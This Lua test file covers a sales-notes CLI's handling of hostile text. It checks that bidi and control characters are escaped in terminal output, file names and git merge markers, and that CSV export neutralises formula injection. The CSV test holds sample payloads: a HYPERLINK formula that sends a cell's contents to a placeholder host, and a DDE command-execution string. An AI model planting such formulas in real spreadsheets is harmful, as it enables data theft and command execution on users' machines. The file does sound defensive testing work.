-- What the shell shows of text from the notes (QA round 42): a step's bidi
-- controls, line breaks and C1 controls (the listing is a seller's
-- terminal), its width in columns, and a file name's odd bytes in every
-- line that names it, the merge driver's included. The note and the store
-- keep the bytes. Today 2026-12-10.
local h = require("helper")

local RLO, PDF, NEL, LS, CSI = "\226\128\174", "\226\128\172", "\194\133", "\226\128\168", "\194\155"
local FFFD = "\239\191\189"

local HEAD = "---\naccount: Acme\ndate: 2026-11-20\n---\n# Acme\n"

describe("what the shell shows of a step", function()
  local dir, db
  before_each(function() dir, db = h.fresh_store() end)
  after_each(function() h.rm(dir) end)

  it("shows bidi controls as U+FFFD and line breaks and controls as blanks, and keeps the bytes", function()
    local step = "send the " .. RLO .. "ecnirp" .. PDF .. " sheet" .. NEL .. "now" .. LS .. "then" .. CSI .. "31m"
    h.write(dir .. "/n/a.md", HEAD .. "- NEXT: " .. step .. " #compliance\n")
    local _, err, code = h.fulog("index n", { cwd = dir, db = db })
    assert.are.equal(0, code, err)
    local shown = "send the " .. FFFD .. "ecnirp" .. FFFD .. " sheet now then 31m"
    local out = h.fulog("overdue", { cwd = dir, db = db })
    assert.truthy(out:find("[Acme] " .. shown .. " (due", 1, true), out)
    out = h.fulog("log", { cwd = dir, db = db })
    assert.truthy(out:find(shown .. "\n", 1, true), out)
    assert.falsy(out:find(RLO, 1, true) or out:find(NEL, 1, true) or out:find(CSI, 1, true), out)
    -- a script reads the words as written
    out = h.fulog("overdue --json", { cwd = dir, db = db })
    assert.truthy(out:find(RLO, 1, true), out)
    out, err, code = h.fulog("done n/a.md:6", { cwd = dir, db = db })
    assert.are.equal(0, code, err)
    assert.are.equal("n/a.md:6: marked done: " .. shown .. "\n", out)
    assert.truthy(h.read(dir .. "/n/a.md"):find("- [x] NEXT: " .. step, 1, true))
  end)

  it("cuts a step at 160 display columns: a CJK character takes two", function()
    local step = "Tom signs " .. ("\229\165\145"):rep(100)      -- 10 + 200 columns
    h.write(dir .. "/n/a.md", HEAD .. "- NEXT: " .. step .. " #compliance\n")
    assert.are.equal(0, select(3, h.fulog("index n", { cwd = dir, db = db })))
    local out = h.fulog("overdue", { cwd = dir, db = db })
    local want = "Tom signs " .. ("\229\165\145"):rep(74) .. "\226\128\166"    -- 10 + 148 + 1
    assert.truthy(out:find("[Acme] " .. want .. " (due", 1, true), out)
  end)

  it("counts the ellipsis two columns, as a CJK locale draws it (QA round 43)", function()
    -- U+2026 is East Asian Ambiguous: 159 letters and it made 161 columns
    -- in a CJK terminal
    local step = ("a"):rep(10) .. " " .. ("b"):rep(189)
    h.write(dir .. "/n/a.md", HEAD .. "- NEXT: " .. step .. " #compliance\n")
    assert.are.equal(0, select(3, h.fulog("index n", { cwd = dir, db = db })))
    local out = h.fulog("overdue", { cwd = dir, db = db })
    local want = step:sub(1, 158) .. "\226\128\166"
    assert.truthy(out:find("[Acme] " .. want .. " (due", 1, true), out)
    out = h.fulog("log", { cwd = dir, db = db })
    assert.truthy(out:find("  " .. want .. "\n", 1, true), out)
  end)

  it("names a file with a control or bidi byte escaped, in every line", function()
    local name = "q" .. RLO .. "dm.a\nb.md"
    h.write(dir .. "/n/" .. name, HEAD .. "- NEXT: send the deck #compliance\n")
    assert.are.equal(0, select(3, h.fulog("index n", { cwd = dir, db = db })))
    local shown = "n/q\\342\\200\\256dm.a\\nb.md"
    local out = h.fulog("overdue", { cwd = dir, db = db })
    assert.are.equal(shown .. ":6:3: compliance [Acme] send the deck (due 2026-11-22, 18 days overdue)",
      (out:gsub(" {%l+}\n$", "")))
    out = h.fulog("log", { cwd = dir, db = db })
    assert.truthy(out:find(" · " .. shown .. ":6:", 1, true), out)
  end)
end)

describe("a long step where a seller reads more than a line", function()
  local dir, db
  before_each(function() dir, db = h.fresh_store() end)
  after_each(function() h.rm(dir) end)

  local LONG = ("they sign the order form once legal reviews the redlines; "):rep(5):gsub(" $", "")

  it("is whole in a draft's script and cut in its subject", function()
    h.write(dir .. "/n/a.md", HEAD .. "PAIN: month-end takes three days\n- NEXT: " .. LONG .. "\n")
    assert.are.equal(0, select(3, h.fulog("index n", { cwd = dir, db = db })))
    local out, err, code = h.fulog("draft n/a.md:7 --channel call", { cwd = dir, db = db })
    assert.are.equal(0, code, err)
    assert.truthy(out:find("following up on " .. LONG .. ".\n", 1, true), out)
    out = h.fulog("draft n/a.md:7", { cwd = dir, db = db })
    local subject = out:match("Subject: ([^\n]*)")
    assert.truthy(subject and subject:find("\226\128\166$") and #subject < 200, out)
  end)

  it("has a short SUMMARY and the whole step in its DESCRIPTION, as python3-icalendar reads them", function()
    h.write(dir .. "/n/a.md", HEAD .. "- NEXT: " .. LONG .. ", \226\128\174bidi\n")
    assert.are.equal(0, select(3, h.fulog("index n", { cwd = dir, db = db })))
    local ics = h.fulog("export ics", { cwd = dir, db = db })
    local f = dir .. "/out.ics"
    h.write(f, ics)
    local res = h.sh(("/usr/bin/python3 -c %s %s 2>&1; echo \"exit=$?\""):format(h.q([==[
import sys, icalendar
cal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())
for c in cal.walk('VTODO'):
    print('S=' + str(c['SUMMARY']))
    print('D=' + str(c['DESCRIPTION']).split('\n')[0])
]==]), h.q(f)))
    assert.truthy(res:find("exit=0", 1, true), res)
    local summary, desc = res:match("S=([^\n]*)"), res:match("D=([^\n]*)")
    assert.truthy(summary and summary:find("^Acme: they sign") and summary:find("\226\128\166$"), res)
    assert.are.equal(LONG .. ", " .. FFFD .. "bidi", desc)
  end)
end)

describe("what a seller shares", function()
  local dir, db
  before_each(function() dir, db = h.fresh_store() end)
  after_each(function() h.rm(dir) end)

  it("export csv: a cell a spreadsheet would run as a formula opens as text", function()
    h.write(dir .. "/n/a.md", '---\naccount: =HYPERLINK("http://x.example/?"&A1,"Acme")\ndate: 2026-11-20\n---\n# Acme\n'
      .. "- NEXT: =1+2 send the deck #compliance\n- NEXT: @SUM(A1) call #non\n- NEXT: +cmd|' /C calc'!A0 #non\n"
      .. "- NEXT: -2+3 seats #non\n- NEXT: send 2+2=4 #non\n")
    assert.are.equal(0, select(3, h.fulog("index n", { cwd = dir, db = db })))
    local out = h.fulog("export csv", { cwd = dir, db = db })
    local f = dir .. "/out.csv"
    h.write(f, out)
    local res = h.sh(("/usr/bin/python3 -c %s %s 2>&1; echo \"exit=$?\""):format(h.q([==[
import csv, sys
for r in csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')):
    print(r['account'] + '|' + r['text'])
]==]), h.q(f)))
    assert.truthy(res:find("exit=0", 1, true), res)
    local acc = "'=HYPERLINK(\"http://x.example/?\"&A1,Acme)|"
    for _, t in ipairs({ "'=1+2 send the deck", "'@SUM(A1) call", "'+cmd|' /C calc'!A0", "'-2+3 seats", "send 2+2=4" }) do
      assert.truthy(("\n" .. res):find("\n" .. acc .. t .. "\n", 1, true), t .. " in " .. res)
    end
  end)
end)

describe("hostile names from front matter", function()
  local dir, db
  before_each(function() dir, db = h.fresh_store() end)
  after_each(function() h.rm(dir) end)

  local NOTE = "---\naccount: Ac" .. RLO .. "me Corp\nattendees: Jo" .. RLO .. "an Lee\ndate: 2026-11-20\n---\n# Acme\n"
    .. "PAIN: month-end " .. RLO .. "wols" .. NEL .. "now\n- NEXT: send the deck #compliance\n"

  it("are not obeyed in a draft, and are named escaped by accounts and the log, which take that name", function()
    h.write(dir .. "/n/a.md", NOTE)
    assert.are.equal(0, select(3, h.fulog("index n", { cwd = dir, db = db })))
    local out, err, code = h.fulog("draft n/a.md:8", { cwd = dir, db = db })
    assert.are.equal(0, code, err)
    assert.falsy(out:find(RLO, 1, true) or out:find(NEL, 1, true), out)
    assert.truthy(out:find("Subject: Ac" .. FFFD .. "me Corp: next step on send the deck\n", 1, true), out)
    assert.truthy(out:find("Hi Jo" .. FFFD .. "an,", 1, true), out)
    assert.truthy(out:find('"month-end ' .. FFFD .. "wols now\"", 1, true), out)
    local shown = "Ac\\342\\200\\256me Corp"
    assert.are.equal(shown .. "\n", (h.fulog("accounts", { cwd = dir, db = db })))
    out, err, code = h.fulog("log " .. h.q(shown), { cwd = dir, db = db })
    assert.are.equal(0, code, err)
    assert.truthy(out:find("^Follow%-up log, today 2026%-12%-10, account " .. shown:gsub("\\", "%%\\") .. ": 1 to act on"), out)
    assert.falsy(out:find(RLO, 1, true), out)
    _, err, code = h.fulog("log Ac", { cwd = dir, db = db })
    assert.are.equal("fulog: no account named 'Ac' in the store (did you mean " .. shown .. "?)\n", err)
    _, err = h.fulog("log " .. h.q("Zz" .. RLO), { cwd = dir, db = db })
    assert.are.equal("fulog: no account named 'Zz\\342\\200\\256' in the store (it has 1; fulog accounts lists them)\n", err)
  end)
end)

describe("the merge driver names git's path", function()
  local t
  before_each(function() t = h.tmpdir() end)
  after_each(function() h.rm(t) end)

  it("escaped, in its messages and in the conflict markers", function()
    h.write(t .. "/O", "# Acme\n- NEXT: call Jason\n")
    h.write(t .. "/A", "# Acme\n- NEXT: call Jason today\n")
    h.write(t .. "/B", "# Acme\n- NEXT: call Jason tomorrow\n")
    local path = h.q("notes/a\n\27[2Jb" .. RLO .. ".md")
    local _, err, code = h.fulog("merge-driver O A B " .. path .. " 7", { cwd = t, pre = "GIT_CONFIG_GLOBAL=/dev/null " })
    assert.are.equal(1, code, err)
    local shown = "notes/a\\n\\033[2Jb\\342\\200\\256.md"
    assert.are.equal("# Acme\n<<<<<<< ours: " .. shown .. "\n- NEXT: call Jason today\n=======\n"
      .. "- NEXT: call Jason tomorrow\n>>>>>>> theirs: " .. shown .. "\n", h.read(t .. "/A"))
    -- git cannot merge: the refusal names the path on one line
    h.write(t .. "/A", "a\0c\n")
    h.write(t .. "/O", "a\0b\n")
    h.write(t .. "/B", "a\0d\n")
    _, err, code = h.fulog("merge-driver O A B " .. path .. " 7", { cwd = t, pre = "GIT_CONFIG_GLOBAL=/dev/null " })
    assert.are.equal(1, code)
    assert.are.equal("fulog: " .. shown .. ": git merge-file failed (exit 255)\n", err)
  end)
end)
